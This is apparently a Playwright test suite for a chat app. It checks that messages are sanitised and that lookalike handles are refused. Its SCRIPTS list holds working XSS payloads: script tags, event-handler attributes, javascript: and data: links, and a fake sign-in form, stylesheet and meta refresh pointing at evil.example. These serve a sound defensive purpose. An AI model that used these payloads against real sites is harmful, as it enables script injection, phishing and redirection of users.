// What people write to harm others: it stays a text, in its own place, and nobody's page runs, jumps or complains.
import { expect, Page } from '@playwright/test';
import { test } from '../helpers/fixtures.ts';
import { awake, PASSWORD } from '../helpers/person.ts';
import { ask, composer, conversationOn, message, messages, opens, says, sends } from '../helpers/talk.ts';

const RUNS = 'window.__ran = true; alert(1)';

const SCRIPTS = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `<svg onload="${RUNS}"><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin="${RUNS}" attributeName=x dur=1s></svg>`,
  `<math><mtext></mtext><img src=x onerror="${RUNS}"></math>`,
  `<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>`,
  `<style>* { display: none }</style><link rel=stylesheet href=//evil.example/a.css>`,
  `<div style="position:fixed;inset:0;z-index:9999">covers it all</div>`,
  `<form action=//evil.example><input name=password><button>Sign in</button></form>`,
  `<details open ontoggle="${RUNS}">x</details><base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `[one](javascript:${encodeURIComponent(RUNS)}) [two](JaVaScRiPt:alert(1)) [three](data:text/html,<script>1</script>)`,
  `[four](vbscript:x) [five](&#106;avascript:alert(1)) <javascript:alert(1)> [six](java\tscript:alert(1))`,
  `![picture](x"onerror="${RUNS}) ![svg](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `[a](https://example.org/"onmouseover="${RUNS}) [b](https://example.org 'x" onclick="${RUNS}')`,
  '`</code><img src=x onerror=alert(1)>` and\n\n```"><svg/onload=alert(1)>\n</pre><script>alert(1)</script>\n```',
  `</article></li></ol></div><h1 id="broken-out">out</h1><!-- `,
  `<p data-user="me" class="message" id="main" tabindex=0>posed</p>`,
];

/** Nothing of what a message brought is alive in this page. */
async function isHarmless(page: Page) {
  const found = await page.evaluate(() => {
    const list = document.querySelector('ol[aria-label="Messages"]')!;
    const prose = [...list.querySelectorAll('.prose')];
    const inside = (selector: string) => prose.flatMap((one) => [...one.querySelectorAll(selector)]).map((one) => one.outerHTML);
    const handlers = prose
      .flatMap((one) => [...one.querySelectorAll('*')])
      .filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on') || name === 'style' || name === 'srcdoc'));
    return {
      ran: (window as unknown as { __ran?: boolean }).__ran ?? false,
      elements: inside('script, img, svg, math, iframe, object, embed, style, link, form, button, base, meta, details, video, audio, [id]'),
      handlers: handlers.map((one) => one.outerHTML),
      links: inside('a[href]').filter((link) => !/href="(https?:\/\/|\/(?!\/)|mailto:)/.test(link)),
      broken: document.querySelectorAll('#broken-out').length,
      mains: document.querySelectorAll('#main').length,
    };
  });
  expect(found).toEqual({ ran: false, elements: [], handlers: [], links: [], broken: 0, mains: 1 });
}

async function overflow(page: Page): Promise<number> {
  return page.evaluate(() => {
    const list = document.querySelector('.talk .scroll-end')!;
    const root = document.documentElement;
    return Math.max(list.scrollWidth - list.clientWidth, root.scrollWidth - root.clientWidth);
  });
}

test('scripts in every dress stay the text that they are, live and after a reload', async ({ ada, ben }) => {
  await opens(ada);
  await opens(ben);
  const dialogs: string[] = [];
  for (const { page } of [ada, ben]) {
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  }
  for (const text of SCRIPTS) await says(ada.page, text);
  await says(ada.page, 'the end');
  await expect(message(ben.page, 'the end')).toHaveCount(1);
  await expect(messages(ben.page)).toHaveCount(SCRIPTS.length + 1);
  await expect(message(ben.page, '<script>window.__ran'), 'as a text').not.toHaveCount(0);
  await isHarmless(ada.page);
  await isHarmless(ben.page);
  await ben.page.reload();
  await ben.isLive();
  await expect(message(ben.page, 'the end')).toBeInViewport();
  await isHarmless(ben.page);
  // What lies under a pointer or a key does not run either.
  for (const link of await messages(ben.page).locator('.prose a').all()) await link.hover();
  await isHarmless(ben.page);
  expect(dialogs).toEqual([]);
});

test('texts that turn, pile up or do not end stay in their row, also on a phone', async ({ ada, ben }) => {
  await opens(ada);
  await opens(ben);
  const room = conversationOn(ada.page);
  await says(ada.page, 'calm before');
  // Overrides are taken out; text that truly runs from the right does so within itself.
  await says(ada.page, 'left \u202Eright\u202C and \u2067isolated without an end');
  await says(ada.page, 'שלום, מה שלומך היום?');
  await says(ada.page, `zalgo ${'x' + '\u0300\u0316\u0346\u0353'.repeat(40)}`.repeat(3));
  await says(ada.page, `word ${'W'.repeat(10_000)}`);
  await says(ada.page, `code \`${'C'.repeat(2_000)}\` https://example.org/${'p'.repeat(1_500)}`);
  await says(ada.page, `| ${'T'.repeat(900)} | b |\n|---|---|\n| 1 | 2 |`);
  await says(ada.page, `\`\`\`\n${'L'.repeat(3_000)}\n\`\`\``);
  await says(ada.page, `# ${'H'.repeat(1_000)}`);
  await says(ada.page, 'calm after');
  await expect(message(ben.page, 'calm after')).toHaveCount(1);
  const turned = message(ben.page, 'left right and isolated');
  await expect(turned).toHaveCount(1);
  expect(await turned.textContent()).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  const directionOf = (text: string) => message(ben.page, text).locator('.prose').evaluate((one) => getComputedStyle(one).direction);
  expect(await directionOf('שלום')).toBe('rtl');
  expect(await directionOf('calm after')).toBe('ltr');
  const head = message(ben.page, 'calm before').locator('.message-head');
  expect(await head.evaluate((one) => getComputedStyle(one).direction)).toBe('ltr');
  const zalgo = message(ben.page, 'zalgo').locator('.prose');
  expect(await zalgo.evaluate((one) => getComputedStyle(one).overflowY), 'nothing is painted over its neighbours').toBe('clip');
  for (const person of [ada, ben]) expect(await overflow(person.page)).toBe(0);
  await ben.page.setViewportSize({ width: 390, height: 844 });
  await ben.page.reload();
  await ben.isLive();
  await expect(message(ben.page, 'calm after')).toHaveCount(1);
  expect(await overflow(ben.page)).toBe(0);

  // A thousand mentions call one person once.
  await ben.page.goto('/inbox');
  await ben.isLive();
  await sends(ada.page, room, Array.from({ length: 1_000 }, (_, n) => (n % 2 ? '@ben' : `@nobody${n}`)).join(' '));
  const waiting = ben.page.getByRole('region', { name: 'Waiting for you' });
  await expect(waiting.getByRole('listitem')).toHaveCount(1);
  await waiting.getByRole('link', { name: /mentioned you in/ }).click();
  await expect(messages(ben.page).last()).toBeInViewport();
  await expect(messages(ben.page).last().getByRole('link', { name: '@ben' })).toHaveCount(500);
  expect(await overflow(ben.page)).toBe(0);
});

test('a text that is too long is refused with a sentence and is not lost', async ({ ada, ben }) => {
  await opens(ada);
  await opens(ben);
  ada.expectsNetworkErrors = true;
  await ada.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const body = 'sixty-four KiB '.repeat(4_400).slice(0, 64 * 1024);
  await says(ada.page, body);
  const own = message(ada.page, 'sixty-four KiB');
  await expect(own.getByRole('alert')).toContainText(/Not sent: .*(large|long|at most)/i);
  await own.getByRole('button', { name: 'Copy' }).click();
  await expect(ada.page.getByText('Copied', { exact: true })).toBeVisible();
  expect((await ada.page.evaluate(() => navigator.clipboard.readText())).length).toBe(body.trim().length);
  // What follows is not held up by it, and the longest that is allowed arrives whole.
  const longest = 'ü'.repeat(8 * 1024);
  await says(ada.page, longest);
  await expect(message(ben.page, 'üüü')).toHaveCount(1);
  expect((await message(ben.page, 'üüü').locator('.prose').textContent())!.trim()).toBe(longest);
  await expect(message(ben.page, 'sixty-four')).toHaveCount(0);
  await own.getByRole('button', { name: 'Delete' }).click();
  await expect(own).toHaveCount(0);
});

test('names that look like others, or like nothing, are refused at the door', async ({ ada, browser, server }) => {
  const link = await ada.invites();
  const context = await browser.newContext({ baseURL: server.address });
  const page = await context.newPage();
  const enters = async (name: string, handle: string) => {
    await page.goto(link);
    await awake(page);
    await page.getByLabel('Your name').fill(name);
    await page.getByLabel('Your handle').fill(handle);
    await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
    await page.getByRole('button', { name: 'Create the account' }).click();
  };
  for (const handle of ['a\u200Bda', 'ada\u202E', '\u0430da', 'ad\u00ADa', 'a\u2060da', 'ada\uFEFF']) {
    await enters('Somebody', handle);
    await expect(page.getByRole('alert').first(), escape(handle)).toBeVisible();
    await expect(page).toHaveURL(/\/join\//);
  }
  await enters('Ada\u200B Lovelace', 'impostor');
  await expect(page.getByRole('alert').first()).toBeVisible();
  await expect(page).toHaveURL(/\/join\//);
  const members = await ask<{ items: unknown[] }>(ada.page, 'members.list', {
    workspace: (await ask<{ workspaces: { workspace: { id: string } }[] }>(ada.page, 'account.get', {})).workspaces[0].workspace.id,
  });
  expect(members.items).toHaveLength(1);
  await context.close();
});
